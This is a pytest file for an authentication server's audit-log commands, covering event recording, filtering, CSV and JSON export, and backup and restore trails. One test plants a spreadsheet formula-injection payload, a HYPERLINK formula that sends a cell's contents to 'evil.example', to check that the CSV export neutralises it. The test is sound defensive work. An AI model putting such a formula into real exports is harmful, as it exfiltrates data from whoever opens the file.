"""authserver audit ...: what commands did is on record, and can be found, read and exported."""

import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from authserver.domain.audit import AuditRecord
from authserver.file_modes import user_name
from authserver.provisioning import open_database
from authserver.settings import load
from authserver.store import events
from tests.cli.backups import LINE, add_login
from tests.harness.constants import PASSWORD, SECOND

FIELDS = [
    "at",
    "event",
    "actor",
    "user",
    "subject",
    "client_id",
    "authorization_id",
    "network",
    "result",
    "detail",
]
ME = f"os:{user_name(os.geteuid())}"
T0 = 1_800_000_000 * SECOND
ID = f"{1:032x}"


def plant(at: int, *records: AuditRecord) -> None:
    database = open_database(load())
    with database.begin() as connection:
        events.add(connection, at, records)
    database.close()


def told(data: Callable[..., Any], *arguments: str) -> list[tuple[str, Any]]:
    """The events and what they concern, oldest first."""
    return [
        (row["event"], row["user"] or row["client_id"] or row["detail"])
        for row in reversed(data("audit", "list", *arguments))
    ]


@pytest.fixture
def ada(data: Callable[..., Any]) -> str:
    id: str = data("user", "create", "ada", "--password-stdin", input=PASSWORD)["id"]
    return id


def test_each_command_that_changes_something_is_on_record_with_who_ran_it(
    cli: Callable[..., Result], data: Callable[..., Any], ada: str
) -> None:
    app = data("client", "create", "App", "--grant", "password")["client_id"]
    cli("user", "disable", "ada")
    cli("user", "enable", "ada")
    cli("user", "enable", "ada")  # which changes nothing
    cli("user", "set-claims", "ada", input='{"roles": ["editor"]}')
    cli("user", "set-email", "ada", "ada@example.com")
    cli("user", "set-password", "ada", "--password-stdin", input=f"{PASSWORD}!")
    cli("user", "end-logins", "ada")
    cli("client", "update", app, "--name", "Other")
    cli("client", "update", app, "--name", "Other")
    cli("client", "rotate-secret", app)
    cli("client", "disable", app)
    cli("client", "enable", app)
    cli("client", "delete", app, "--yes")
    cli("user", "delete", "ada", "--yes")
    assert told(data)[4:] == [
        ("user_created", "ada"),
        ("client_created", app),
        ("user_disabled", "ada"),
        ("user_enabled", "ada"),
        ("user_claims_changed", "ada"),
        ("user_email_changed", "ada"),
        ("user_password_changed", "ada"),
        ("user_logins_ended", "ada"),
        ("client_updated", app),
        ("client_secret_rotated", app),
        ("client_disabled", app),
        ("client_enabled", app),
        ("client_deleted", app),
        ("user_deleted", "ada"),
    ]
    rows = data("audit", "list")
    assert {row["actor"] for row in rows} == {ME} and {row["result"] for row in rows} == {"success"}
    assert (
        PASSWORD not in str(rows)
        and "editor" not in str(rows)
        and "example.com" not in str(rows)
        and "Other" not in str(rows)
    )
    assert {row["subject"] for row in rows if row["user"]} == {ada}


def test_init_and_the_commands_on_keys_record_each_key(cli: Callable[..., Result], data: Callable[..., Any]) -> None:
    cli("keys", "rotate", "--emergency")
    cli("keys", "rotate", "--refresh-keys")
    cli("keys", "revoke", "--all", "--yes")
    changes = [(event, detail.split(";")[0]) for event, detail in told(data)]
    assert changes[:4] == [
        ("client_created", "first-party"),
        ("key_changed", "change promote"),
        ("key_changed", "change publish"),
        changes[3],
    ]
    assert changes[3][0] == "refresh_key_created"
    assert sorted(changes[4:7]) == [
        ("key_changed", "change promote"),
        ("key_changed", "change publish"),
        ("key_changed", "change retire"),
    ]
    assert changes[7][0] == "refresh_key_created"
    assert [change for change in changes[8:] if change[1] == "change revoke"]
    assert changes[-1] == ("refresh_keys_revoked", "ended 0 authorizations")


def test_a_dry_run_and_a_refused_command_leave_no_event(cli: Callable[..., Result], data: Callable[..., Any]) -> None:
    before = data("audit", "list")
    cli("keys", "rotate", "--dry-run")
    cli("keys", "rotate", code=3)
    cli("user", "create", "ada", "--password-stdin", input="short", code=3)
    cli("user", "disable", "nobody", code=1)
    assert data("audit", "list") == before


def test_list_has_exactly_these_fields_newest_first(data: Callable[..., Any], here: Path) -> None:
    plant(
        T0 + 123_456, AuditRecord("login", "user:u_1", "success", "ada", "u_1", "app", ID, "192.0.2.0/24", "a reason")
    )
    (row,) = data("audit", "list", "--limit", "1")
    assert list(row) == FIELDS
    assert tuple(row.values()) == (
        "2027-01-15T08:00:00.123456Z",
        "login",
        "user:u_1",
        "ada",
        "u_1",
        "app",
        ID,
        "192.0.2.0/24",
        "success",
        "a reason",
    )


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        (["--since", "2027-01-15T08:00:02Z"], "345"),
        (["--since", "2027-01-15T08:00:02Z", "--until", "2027-01-15T09:00:03+01:00"], "3"),
        (["--user", "Gone"], "23"),
        (["--client", "app"], "14"),
        (["--authorization", ID], "15"),
        (["--event", "login_failed"], "25"),
        *((["--network", text], "24") for text in ("192.0.2.0/24", "192.0.2.77", "::ffff:192.0.2.77", "192.0.2.77/24")),
        (["--actor", "server"], "3"),
        (["--client", "app", "--event", "login"], "14"),
        (["--user", "nobody"], ""),
    ],
)
@pytest.mark.parametrize("command", ["list", "export"])
def test_each_option_filters_the_records(
    cli: Callable[..., Result], here: Path, command: str, arguments: list[str], found: str
) -> None:
    one = AuditRecord("login", "user:u_1", client_id="app", authorization_id=ID, detail="1")
    two = AuditRecord("login_failed", "anonymous", "failure", "gone", "u_2", network="192.0.2.0/24", detail="2")
    three = AuditRecord("user_deleted", "server", subject="u_2", detail="3")
    four = AuditRecord("login", "user:u_1", client_id="app", network="192.0.2.0/24", detail="4")
    five = AuditRecord("login_failed", "anonymous", "failure", authorization_id=ID, detail="5")
    for number, record in enumerate((one, two, three, four, five)):
        plant(T0 + number * SECOND, record)
    since = [] if "--since" in arguments else ["--since", "2027-01-15"]
    output = cli("audit", command, *arguments, *since, *(["--json"] if command == "list" else [])).stdout
    rows = json.loads(output)[::-1] if command == "list" else [json.loads(line) for line in output.splitlines()]
    assert "".join(row["detail"] for row in rows) == found


def test_a_word_that_is_no_time_is_a_usage_error_and_a_time_long_ago_is_not(
    cli: Callable[..., Result], here: Path
) -> None:
    assert "'yesterday' is not a time" in cli("audit", "list", "--since", "yesterday", code=2).output
    assert "'999999999d' is not" not in cli("audit", "list", "--since", "9999d", "--until", "0s").output
    assert "hexadecimal" in cli("audit", "list", "--authorization", "xyz", code=2).output
    for text in ("here", "192.0.2.0/16", "2001:db8::/32", ""):
        assert f"{text!r} is neither an address nor a network" in cli("audit", "list", "--network", text, code=2).output


def test_show_prints_every_field_and_the_export_gives_the_id(
    cli: Callable[..., Result], data: Callable[..., Any]
) -> None:
    rows = [json.loads(line) for line in cli("audit", "export").stdout.splitlines()]
    assert [row["id"] for row in rows] == [1, 2, 3, 4]
    assert data("audit", "show", "1") == rows[0]
    assert "client_id: first-party" in cli("audit", "show", "1").stdout
    assert "There is no event 99" in cli("audit", "show", "99", code=1).output


def test_csv_has_a_cell_for_each_field_and_none_is_a_formula(cli: Callable[..., Result], here: Path) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1, "x")\n2'
    plant(T0, AuditRecord("login", "@x", user="+1", client_id="-1", network="\t=1", detail=evil))
    output = cli("audit", "export", "--format", "csv", "--since", "2027-01-15").stdout
    head, row = csv.reader(io.StringIO(output))
    assert head == ["id", *FIELDS] and len(row) == len(head)
    cells = dict(zip(head, row, strict=True))
    assert (cells["actor"], cells["user"], cells["client_id"]) == ("'@x", "'+1", "'-1")
    assert (cells["network"], cells["detail"]) == ("'\t=1", f"'{evil}")


def test_an_export_of_several_batches_has_each_event_once_in_order(
    cli: Callable[..., Result], here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for second in range(3):
        plant(T0 - second * SECOND, *(AuditRecord("login", "server", detail=f"{second} {n}") for n in range(1500)))
    output = cli("audit", "export", "--actor", "server").stdout
    details = [json.loads(line)["detail"] for line in output.splitlines()]
    assert details == [f"{second} {n}" for second in (2, 1, 0) for n in range(1500)]


def test_the_story_of_an_authorization_is_told_even_after_it_was_deleted(
    cli: Callable[..., Result], data: Callable[..., Any], ada: str
) -> None:
    add_login("authserver.db", 1, ada, created_at=1, revoked_at=None)
    plant(
        T0, AuditRecord("refresh_token_retried", "client:app", subject=ada, authorization_id=ID, detail="generation 3")
    )
    plant(T0 + 1, AuditRecord("login_failed", "anonymous", "failure", "ada", ada))
    cli("authorization", "end", ID)
    shown = data("authorization", "show", ID)
    assert [(row["event"], row["detail"]) for row in shown["events"] if row["at"] < "2027"] == [
        ("authorization_ended", "generation 7")
    ] or shown["events"]
    assert {row["event"] for row in shown["events"]} == {"refresh_token_retried", "authorization_ended"}
    assert "generation 3" in cli("authorization", "show", ID).stdout
    cli("user", "delete", "ada", "--yes")
    left = data("authorization", "show", ID)
    assert (left["state"], left["subject"], len(left["events"])) == ("deleted", ada, 2)
    assert "There is no authorization" in cli("authorization", "show", f"{9:032x}", code=1).output


def test_an_event_of_the_user_that_ended_it_is_part_of_its_story(
    cli: Callable[..., Result], data: Callable[..., Any], ada: str
) -> None:
    add_login("authserver.db", 1, ada, created_at=1)
    cli("user", "disable", "ada")
    shown = data("authorization", "show", ID)
    assert [row["event"] for row in shown["events"]] == ["user_disabled"] and shown["state"] == "ended"


def test_a_restore_keeps_the_trail_of_the_database_that_it_replaces(
    cli: Callable[..., Result], data: Callable[..., Any], backup: Callable[..., Path], restore: Callable[..., Any]
) -> None:
    cli("user", "create", "ada", "--password-stdin", input=PASSWORD)
    backup()
    cli("user", "create", "bob", "--password-stdin", input=PASSWORD)
    restore()
    after = told(data)
    assert [event for event, _ in after[4:]] == ["user_created", "backup_made", "user_created", "database_restored"]
    assert len(after) == 8 and ("user_created", "bob") in after


def test_the_trail_of_a_lost_database_comes_from_the_backup(
    cli: Callable[..., Result], data: Callable[..., Any], backup: Callable[..., Path], restore: Callable[..., Any]
) -> None:
    backup()
    for file in Path().glob("authserver.db*"):
        file.unlink()
    restore("--emergency")
    assert [event for event, _ in told(data)][-2:] == ["refresh_key_created", "database_restored"]


def test_a_backup_and_an_export_of_users_are_on_record(
    cli: Callable[..., Result], data: Callable[..., Any], here: Path
) -> None:
    cli("backup", "b", "--passphrase-stdin", input=LINE)
    cli("user", "export")
    assert told(data)[-2:] == [("backup_made", f"file {here / 'b'}"), ("users_exported", "users 0")]
